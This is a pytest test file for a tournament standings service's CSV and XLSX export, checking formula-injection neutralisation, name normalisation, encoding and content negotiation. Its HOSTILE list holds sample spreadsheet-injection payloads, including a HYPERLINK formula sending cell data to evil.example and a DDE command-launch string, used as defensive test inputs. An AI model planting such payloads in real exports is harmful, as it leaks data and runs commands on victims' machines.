"""Issue 16, standings written back: no live formulas (OWASP CSV injection), byte-stable streamed XLSX,
names normalised and refused as service.core.names says, encoders that never raise, content negotiation.
Issue 30: XLSX text cells as they are (inline strings, no apostrophe), column widths, a BOM on CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from service.core.names import BadName, normalise_name
from service.tournaments import sheets
from service.tournaments.rows import BadRows, read_results, table_from_records
from service.tournaments.sheets import standings_csv, standings_xlsx
from service.tournaments.standings import standings

URL = "/v1/24-kings/tournaments/standings"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# OWASP "CSV Injection": a cell beginning with = + - @ (tab and CR are control characters, refused in names)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's CSV injection list, as issue 16 names it


def hostile_standings():
    rows = [{"game": game, "player": name, "points": index} for index, name in enumerate(HOSTILE) for game in ("=1+1", "2")]
    return standings(read_results(table_from_records(rows)))


def test_csv_cells_that_would_run_as_formulas_are_text():
    rows = list(csv.reader(io.StringIO(standings_csv(hostile_standings()).decode("utf-8-sig"))))
    players = {row[1] for row in rows[1:]}
    assert players == {"'" + name for name in HOSTILE}
    assert rows[0][7:] == ["game =1+1", "game 2"]  # the header cell begins with "game": it cannot run
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row if not _is_number(cell))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_negative_points_stay_numbers_and_fractions_are_text_that_cannot_run():
    result = standings(read_results(table_from_records([{"game": "1", "player": "ann", "points": -4}, {"game": "1", "player": "bob", "points": 2}])))
    rows = list(csv.reader(io.StringIO(standings_csv(result).decode("utf-8-sig"))))
    assert rows[2][2] == "-4"
    assert sheets.neutral("-7/6") == "'-7/6" and sheets.neutral(-4) == -4 and sheets.neutral("ann") == "ann"
    assert [sheets.neutral(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]


def test_xlsx_cells_are_strings_never_formulas():
    """Every text cell is an inline string, which no spreadsheet evaluates, so it is written as it is: no apostrophe."""
    data = standings_xlsx(hostile_standings())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    for cell in re.findall(r"<c [^>]*>.*?</c>", sheet_xml):
        kind = re.search(r' t="([^"]+)"', cell)
        assert (kind and kind.group(1) == "inlineStr") or re.fullmatch(r'<c r="[A-Z]+\d+"><v>-?[0-9.]+</v></c>', cell), cell
    cells = [cell for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert {cell.value for cell in cells if cell.column == 2 and cell.row > 1} == set(HOSTILE)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))


def test_xlsx_columns_are_as_wide_as_their_longest_text():
    """Printed names are not cut: each column at least as wide as its longest text (a wide character counts two), bounded."""
    long_name, wide_name = "Maximilian-Alexander von Hohenzollern-Sigmaringen", "\u738b\u5c0f\u660e\u7684\u670b\u53cb"  # 5 CJK ideographs
    rows = [{"game": "final", "player": name, "points": 1} for name in ("al", long_name, wide_name)]
    sheet = load_workbook(io.BytesIO(standings_xlsx(standings(read_results(table_from_records(rows)))))).worksheets[0]
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert len(widths) == sheet.max_column == 8  # 7 fixed columns and one game: every column has its width
    assert widths["B"] >= len(long_name) and widths["B"] >= 2 * len(wide_name)
    assert widths["H"] >= len("game final") and all(4 <= width <= 100 for width in widths.values())
    assert widths["A"] < widths["B"]  # set per column, not one width for all


def test_csv_begins_with_a_bom_for_excel_unless_asked_not_to(client):
    """Excel for Windows reads a CSV without a BOM in the ANSI code page: Zoë would show as ZoÃ«."""
    sheet = "game,player,points\n1,Zo\u00eb,3\n1,Ren\u00e9e,1\n".encode()
    default = client.post(URL + "?format=csv", data=sheet, content_type="text/csv").data
    assert default.startswith(b"\xef\xbb\xbfrank,") and "Zo\u00eb".encode() in default
    bare = client.post(URL + "?format=csv&bom=false", data=sheet, content_type="text/csv").data
    assert bare == default[3:]
    assert client.post(URL + "?format=csv&bom=0", data=sheet, content_type="text/csv").data == bare
    assert client.post(URL + "?format=csv&bom=1", data=sheet, content_type="text/csv").data == default
    assert client.post(URL + "?format=csv&bom=maybe", data=sheet, content_type="text/csv").status_code == 422


def test_xlsx_is_byte_stable(monkeypatch):
    result = hostile_standings()
    first = standings_xlsx(result)
    later = time.time() + 86_400 * 400  # a year and a month later: every date and time in the archive would differ
    monkeypatch.setattr(time, "time", lambda: later)
    assert standings_xlsx(result) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z" in archive.read("docProps/core.xml")


def test_xlsx_writes_no_empty_cell():
    """Standings of games x players are mostly empty: only the cells with a value are written (openpyxl wrote every one)."""
    rows = [{"game": f"g{index}", "player": f"p{index}", "points": index} for index in range(30)]
    result = standings(read_results(table_from_records(rows)))
    with zipfile.ZipFile(io.BytesIO(standings_xlsx(result))) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    written = sum(1 for row in sheets.standings_rows(result) for value in row if value != "")
    assert sheet_xml.count("<c ") == written == 37 + 30 * 8  # the header's 7 + 30 games; each player's 7 and one game
    sheet = load_workbook(io.BytesIO(standings_xlsx(result))).worksheets[0]
    assert sheet.max_row == 31 and sheet.max_column == 37 and sheet.cell(2, 8).value is None and sheet.cell(2, 37).value == 29  # p29 played g29 only


@pytest.mark.parametrize(
    ("player", "code"),
    [
        ("ann\u202e", "name_bidi_control"),
        ("a\u200bnn", "name_zero_width"),
        ("ann\x07", "name_control_character"),
        ("ann\ufffe", "name_noncharacter"),
        ("x" * 65, "name_too_long"),
    ],
)
def test_names_in_rows_are_refused_as_names_py_refuses_them(client, player, code):
    problem = client.post(URL, json={"rows": [{"game": "1", "player": "bob", "points": 1}, {"game": "1", "player": player, "points": 2}]}).get_json()
    assert problem["status"] == 422 and [(e["row"], e["column"], e["code"]) for e in problem["errors"]] == [(1, "player", code)]
    game = client.post(URL, json={"rows": [{"game": "1" + player, "player": "bob", "points": 1}]}).get_json()
    assert [(e["column"], e["code"]) for e in game["errors"]] == [("game", code)]


def test_a_name_spelled_two_ways_is_one_player():
    rows = [{"game": "1", "player": "Zoe\u0308", "points": 3}, {"game": "2", "player": "Zo\u00eb", "points": 4}, {"game": "2", "player": " bob ", "points": 1}]
    table = standings(read_results(table_from_records(rows))).table
    assert [(s.player, s.total, s.games) for s in table] == [("Zo\u00eb", 7, 2), ("bob", 1, 1)]
    with pytest.raises(BadRows, match="already has a row"):
        read_results(table_from_records([{"game": "1", "player": "Zoe\u0308", "points": 3}, {"game": "1", "player": "Zo\u00eb", "points": 4}]))


def accepted(text: str) -> bool:
    try:
        normalise_name(text)
    except BadName:
        return False
    return True


NAMES = st.text(min_size=1, max_size=64).filter(accepted)


def as_written(name: str) -> str:
    """How a text cell must come out of CSV: with a leading ' when a spreadsheet would read it as a formula (OWASP)."""
    return "'" + name if name.startswith(FORMULA_STARTS) else name


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(st.lists(NAMES, min_size=1, max_size=4, unique_by=normalise_name), NAMES)
@example(["'", "=HYPERLINK(1)", "-7/6", "\u00a0@x"], "'")  # a lone quote once broke the test's own reading of the cells
def test_every_encoder_writes_every_accepted_name(players, game):
    """Whatever normalise_name accepts, JSON, CSV and XLSX write, and read back as the same name."""
    rows = [{"game": game, "player": name, "points": index} for index, name in enumerate(players)]
    result = standings(read_results(table_from_records(rows)))
    names = {normalise_name(name) for name in players}
    assert {s["player"] for s in json.loads(json.dumps(result.to_dict(), ensure_ascii=False))["standings"]} == names
    shown = {as_written(name) for name in names}
    written = list(csv.reader(io.StringIO(standings_csv(result).decode("utf-8-sig"), newline="")))
    assert {row[1] for row in written[1:]} == shown
    sheet = load_workbook(io.BytesIO(standings_xlsx(result))).worksheets[0]
    assert {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)} == names  # inline strings: as they are


def test_vary_accept_and_406(client):
    sheet = b"game,player,points\n1,ann,3\n1,bob,-1\n"
    for accept, mimetype in (
        ("application/json", "application/json"),
        ("text/csv", "text/csv"),
        (XLSX, XLSX),
        ("*/*", "application/json"),
        ("text/*", "text/csv"),
    ):
        response = client.post(URL, data=sheet, content_type="text/csv", headers={"Accept": accept})
        assert response.status_code == 200 and response.mimetype == mimetype and "Accept" in response.headers.get("Vary", ""), accept
    refused = client.post(URL, data=sheet, content_type="text/csv", headers={"Accept": "text/html"})
    assert refused.status_code == 406 and refused.mimetype == "application/problem+json" and "Accept" in refused.headers["Vary"]
    assert refused.get_json()["errors"][0]["code"] == "not_acceptable"
    chosen = client.post(URL + "?format=csv", data=sheet, content_type="text/csv", headers={"Accept": "text/html"})
    assert chosen.status_code == 200 and chosen.mimetype == "text/csv"  # ?format= chooses whatever Accept says
    assert client.post(URL, data=sheet, content_type="text/csv").mimetype == "application/json"  # no Accept: JSON


def test_the_characters_xml_cannot_hold_are_exactly_those_outside_its_char_production():
    """XML 1.0's Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]; every code point checked."""

    def xml_char(point: int) -> bool:
        return point in (0x9, 0xA, 0xD) or 0x20 <= point <= 0xD7FF or 0xE000 <= point <= 0xFFFD or 0x10000 <= point <= 0x10FFFF

    every = "".join(map(chr, range(0x110000)))
    assert [ord(found) for found in sheets.NOT_XML.findall(every)] == [point for point in range(0x110000) if not xml_char(point)]


@given(st.text(alphabet=st.sampled_from("&<>\"'ab\x01\ufffe;#"), max_size=30))
def test_a_text_in_the_workbook_reads_back_as_it_was_written_but_for_what_xml_cannot_hold(text):
    """The escaping of a cell's text (the markup characters, and U+FFFD for what XML cannot hold), read back by an XML parser."""
    from xml.etree import ElementTree

    parsed = ElementTree.fromstring(f"<t>{sheets._escape(text)}</t>").text or ""
    assert parsed == "".join("\ufffd" if char in "\x01\ufffe" else char for char in text)
